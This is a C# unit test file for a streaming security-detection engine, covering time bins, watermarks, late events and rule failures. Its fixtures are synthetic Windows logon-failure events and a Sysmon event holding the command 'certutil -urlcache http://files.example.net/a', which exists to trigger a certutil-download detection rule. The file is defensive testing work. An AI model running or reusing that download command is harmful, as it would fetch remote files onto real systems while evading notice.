using System.Text;
using SplCompiler.Generated;
using SplCompiler.Generated.Windows;
using Xunit;

namespace SplCompiler.Runtime.Tests.Library;

/// <summary>A pack over events that come one after another.</summary>
public sealed class DetectionStreamTests
{
    private static readonly StreamOptions s_minute = new() { AllowedLateness = TimeSpan.FromMinutes(1) };

    [Fact]
    public void ARowOfOneEventComesWithIt()
    {
        DetectionStream stream = DetectionPack.Open();
        DetectionRow row = Assert.Single(stream.OnEvent(Download()));
        Assert.IsType<CertutilUrlDownload.Row>(row.Values);
        Assert.Equal(new StreamCounters(Events: 1, Rows: 1, Late: 0, Problems: 0, FailedRules: 0), stream.Counters);
        Assert.Empty(stream.Complete());
    }

    [Fact]
    public void WithoutAnAllowedLatenessGroupsWaitForTheEnd()
    {
        DetectionStream stream = DetectionPack.Open();
        Assert.Empty(Feed(stream, Burst("10:00")));
        Assert.Empty(stream.OnEvent(Logon("12:00:00", "late")));
        Assert.Null(stream.Watermark);
        Assert.IsType<FailedLogonsOfManyAccounts.Row>(Assert.Single(stream.Complete()).Values);
    }

    [Fact]
    public void ABinGivesItsRowWhenTheWatermarkHasPassedItsEnd()
    {
        DetectionStream stream = DetectionPack.Open(s_minute);
        Assert.Empty(Feed(stream, Burst("10:00")));
        Assert.Empty(stream.OnEvent(Logon("10:05:59", "x")));
        DetectionRow row = Assert.Single(stream.OnEvent(Logon("10:06:00", "y")));
        var values = Assert.IsType<FailedLogonsOfManyAccounts.Row>(row.Values);
        Assert.Equal((5, 3), (values.Count, values.Accounts));
        Assert.Empty(stream.Complete());
    }

    [Fact]
    public void AnEventBehindTheNewestCountsWhileItsBinIsOpen()
    {
        DetectionStream stream = DetectionPack.Open(s_minute);
        string[] burst = Burst("10:00");
        Assert.Empty(Feed(stream, burst[..4]));
        Assert.Empty(stream.OnEvent(Logon("10:05:30", "x")));
        Assert.Empty(stream.OnEvent(burst[4]));
        var values = Assert.IsType<FailedLogonsOfManyAccounts.Row>(Assert.Single(stream.OnEvent(Logon("10:07:00", "y"))).Values);
        Assert.Equal(5, values.Count);
        Assert.Equal(0, stream.Counters.Late);
    }

    [Fact]
    public void AnEventOfABinThatIsOverIsCountedAndLeftOut()
    {
        DetectionStream stream = DetectionPack.Open(s_minute);
        Feed(stream, Burst("10:00"));
        Assert.Single(stream.OnEvent(Logon("10:20:00", "x")));
        Assert.Empty(Feed(stream, Burst("10:00")));
        Assert.Empty(stream.Complete());
        // Each of the five was too late for both rules that group by bins and look at Windows events.
        Assert.True(stream.Counters.Late >= 5, stream.Counters.ToString());
    }

    [Fact]
    public void ClosedBinsTogetherGiveTheRowsOfARun()
    {
        string[] events = [.. Enumerable.Range(0, 40).SelectMany(i => Burst($"{10 + (i / 12)}:{i % 12 * 5:00}"))];
        DetectionStream stream = DetectionPack.Open(s_minute);
        IEnumerable<string> streamed = Feed(stream, events).Concat(stream.Complete()).Select(row => row.ToJson());
        Assert.Equal(DetectionPack.Run(events).Select(row => row.ToJson()), streamed);
        Assert.Equal(40, stream.Counters.Rows);
    }

    [Fact]
    public void ABrokenEventIsReportedWithItsLine()
    {
        var problems = new List<InputProblem>();
        DetectionStream stream = DetectionPack.Open(new StreamOptions { OnProblem = problems.Add, Name = "queue" });
        stream.OnEvent("{}\n{}");
        stream.OnEvent("{ broken");
        InputProblem problem = Assert.Single(problems);
        Assert.Equal((InputProblemKind.BrokenEvent, "queue"), (problem.Kind, problem.Path));
        Assert.Equal(1, stream.Counters.Problems);
    }

    [Fact]
    public void ARuleThatFailsIsReportedOnceAndTheOthersGoOn()
    {
        var failures = new List<string>();
        var pack = DetectionPack.Pack with { Rules = [new("bad", null, null, () => new Failing()), .. DetectionPack.Pack.Rules] };
        var stream = new DetectionStream(pack, new StreamOptions { OnFailure = (rule, error) => failures.Add($"{rule.Path}: {error.Message}") });
        Assert.Single(stream.OnEvent(Download()));
        Assert.Single(stream.OnEvent(Download()));
        Assert.Equal(["bad: no"], failures);
        Assert.Equal(1, stream.Counters.FailedRules);
    }

    [Fact]
    public void NothingFollowsTheEnd()
    {
        DetectionStream stream = DetectionPack.Open();
        stream.Complete();
        Assert.Throws<ObjectDisposedException>(() => stream.OnEvent("{}"));
    }

    [Fact]
    public async Task AnAsynchronousSequenceIsReadToItsEnd()
    {
        static async IAsyncEnumerable<ReadOnlyMemory<byte>> Events()
        {
            foreach (string text in Burst("10:00"))
            {
                await Task.Yield();
                yield return Encoding.UTF8.GetBytes(text);
            }
        }

        var rows = new List<DetectionRow>();
        await foreach (DetectionRow row in DetectionPack.Open().RunAsync(Events()))
            rows.Add(row);
        Assert.Single(rows);
    }

    private static List<DetectionRow> Feed(DetectionStream stream, IEnumerable<string> events) => [.. events.SelectMany(stream.OnEvent)];

    private static string[] Burst(string time) =>
        [Logon($"{time}:01", "a"), Logon($"{time}:02", "b"), Logon($"{time}:03", "c"), Logon($"{time}:04", "a"), Logon($"{time}:05", "b")];

    private static string Logon(string time, string user) =>
        $$"""{"@timestamp":"2026-03-04T{{time}}Z","EventID":4625,"Channel":"Security","Hostname":"dc01.corp.example","TargetUserName":"{{user}}","IpAddress":"192.0.2.44"}""";

    private static string Download() =>
        """{"@timestamp":"2026-03-04T10:00:00Z","EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"ws1","CommandLine":"certutil -urlcache http://files.example.net/a"}""";

    private sealed class Failing : Detection
    {
        public override FieldSet Fields => FieldSet.Empty;

        public override void Bind(SlotMap slots)
        {
        }

        public override void OnEvent(in EventView e) => throw new InvalidOperationException("no");
    }
}
